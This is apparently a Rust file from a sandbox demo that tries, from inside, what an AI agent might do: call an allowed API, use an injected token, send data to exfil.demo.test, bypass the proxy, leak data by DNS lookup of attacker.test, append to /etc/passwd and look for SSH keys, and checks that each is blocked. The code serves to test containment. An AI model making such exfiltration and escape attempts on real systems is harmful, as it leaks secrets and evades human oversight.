//! The demo's sandboxed part: what an agent might try, and what comes of it.

use std::{
    env, fs,
    io::{Read, Write},
    net::{SocketAddr, TcpStream, ToSocketAddrs},
    sync::Arc,
    time::{Duration, Instant},
};

use rustls::{
    ClientConfig, ClientConnection, RootCertStore, StreamOwned,
    crypto::aws_lc_rs,
    pki_types::{CertificateDer, pem::PemObject},
};

use crate::Failure;

const HOST: &str = "api.demo.test";
const PROXY: &str = "127.0.0.1:3128";
const TIMEOUT: Duration = Duration::from_secs(5);

/// Tries everything; the exit code says whether all of it went as promised.
pub(super) fn run() -> Result<u8, Failure> {
    println!("inside the sandbox:");
    let checks = [allowed(), secret(), unruly(), denied(), bypass(), lookup(), files(), privileges()];
    Ok(u8::from(!checks.iter().all(|ok| *ok)))
}

fn say(ok: bool, what: &str, outcome: &str) -> bool {
    println!("  {} {what}\n      {outcome}", if ok { "ok  " } else { "FAIL" });
    ok
}

fn allowed() -> bool {
    let (status, body) = ask("GET", "/", "");
    say(status == 200, "GET https://api.demo.test/ (the policy allows it)", &format!("{status}: {}", body.trim()))
}

/// A token that works and is not here.
fn secret() -> bool {
    let have = env::var("DEMO_TOKEN").unwrap_or_default();
    let (status, body) = ask("GET", "/whoami", &format!("Authorization: Bearer {have}\r\n"));
    // The upstream says how its token begins, and what it got: the real one went out, the placeholder came back.
    let real = body.strip_prefix("welcome, holder of ").and_then(|rest| rest.split('…').next());
    let used = status == 200 && real.is_some_and(|start| !start.is_empty() && !have.starts_with(start));
    let unseen = !have.is_empty() && body.contains(&format!("you sent Bearer {have}"));
    let outcome = format!("DEMO_TOKEN={have}\n      {status}: {}", body.trim());
    say(used && unseen, "sign in at https://api.demo.test/whoami with a secret that is not in here", &outcome)
}

/// The right host, and a request that no rule allows, inside TLS.
fn unruly() -> bool {
    let (status, body) = ask("DELETE", "/repos/all", "");
    say(
        status == 403,
        "DELETE https://api.demo.test/repos/all (only GET is allowed)",
        &format!("{status}: {}", body.trim()),
    )
}

fn denied() -> bool {
    let (status, body) = get("http://exfil.demo.test/?data=secrets");
    say(status == 403, "GET http://exfil.demo.test/ (no rule allows it)", &format!("{status}: {}", body.trim()))
}

/// A connection that goes around the proxy.
fn bypass() -> bool {
    let address = SocketAddr::from(([203, 0, 113, 7], 22));
    let start = Instant::now();
    let result = TcpStream::connect_timeout(&address, TIMEOUT);
    let took = start.elapsed();
    let refused = result.as_ref().is_err_and(|e| e.kind() == std::io::ErrorKind::ConnectionRefused);
    let outcome = result.map_or_else(|e| e.to_string(), |_| "connected".to_owned());
    say(refused, "connect to 203.0.113.7:22, past the proxy", &format!("{outcome}, after {} µs", took.as_micros()))
}

/// A name that would carry data to a resolver of the attacker's.
fn lookup() -> bool {
    let found = ("c2VjcmV0.attacker.test", 80).to_socket_addrs().map(|a| a.count());
    let outcome = found.as_ref().map_or_else(ToString::to_string, |n| format!("{n} addresses"));
    say(found.is_err(), "resolve c2VjcmV0.attacker.test", &format!("{outcome}; no resolver was asked"))
}

fn files() -> bool {
    let write = fs::write("out.txt", "made inside\n");
    let passwd = fs::OpenOptions::new().append(true).open("/etc/passwd");
    let home = env::home_dir().is_some_and(|h| h.join(".ssh").exists()) || fs::metadata("/run/docker.sock").is_ok();
    let outcome = format!(
        "workspace: {}; /etc/passwd: {}; keys and daemon sockets: {}",
        write.as_ref().map_or_else(ToString::to_string, |()| "written".to_owned()),
        passwd.as_ref().map_or_else(ToString::to_string, |_| "opened".to_owned()),
        if home { "visible" } else { "absent" },
    );
    say(write.is_ok() && passwd.is_err() && !home, "write in the workspace, write elsewhere, look for keys", &outcome)
}

fn privileges() -> bool {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let field = |name: &str| status.lines().find_map(|l| l.strip_prefix(name)).unwrap_or("?").trim().to_owned();
    let (caps, filter, nnp) = (field("CapBnd:"), field("Seccomp:"), field("NoNewPrivs:"));
    let held = caps.chars().all(|c| c == '0') && filter == "2" && nnp == "1";
    say(held, "what this process may do", &format!("capabilities {caps}, seccomp {filter}, no_new_privs {nnp}"))
}

/// A request through a tunnel, as curl sends it for https: TLS ends at the door, under the sandbox's own authority.
fn ask(method: &str, path: &str, field: &str) -> (u16, String) {
    let answer = || -> Result<String, Box<dyn std::error::Error>> {
        let mut stream = TcpStream::connect(PROXY)?;
        stream.set_read_timeout(Some(TIMEOUT))?;
        write!(stream, "CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n")?;
        let mut head = Vec::new();
        while !head.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte)?;
            head.extend(byte);
        }
        let mut roots = RootCertStore::empty();
        for root in CertificateDer::pem_file_iter(env::var_os("SSL_CERT_FILE").unwrap_or_default())? {
            roots.add(root?)?;
        }
        let config = ClientConfig::builder_with_provider(Arc::new(aws_lc_rs::default_provider()))
            .with_safe_default_protocol_versions()?
            .with_root_certificates(roots)
            .with_no_client_auth();
        let connection = ClientConnection::new(Arc::new(config), HOST.try_into()?)?;
        let mut stream = StreamOwned::new(connection, stream);
        write!(stream, "{method} {path} HTTP/1.1\r\nHost: {HOST}\r\n{field}Connection: close\r\n\r\n")?;
        let mut text = String::new();
        stream.read_to_string(&mut text)?;
        Ok(text)
    };
    answer().map_or_else(|e| (0, e.to_string()), |text| parsed(&text))
}

/// A request in absolute form, as curl sends it to a proxy.
fn get(url: &str) -> (u16, String) {
    let host = url.trim_start_matches("http://").split('/').next().unwrap_or_default();
    let answer = || -> std::io::Result<String> {
        let mut stream = TcpStream::connect(PROXY)?;
        stream.set_read_timeout(Some(TIMEOUT))?;
        write!(stream, "GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")?;
        let mut text = String::new();
        stream.read_to_string(&mut text)?;
        Ok(text)
    };
    match answer() {
        Ok(text) => parsed(&text),
        Err(e) => (0, e.to_string()),
    }
}

/// Status and body.
fn parsed(text: &str) -> (u16, String) {
    let status = text.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0);
    let body = text.split_once("\r\n\r\n").map_or("", |(_, body)| body);
    (status, body.to_owned())
}
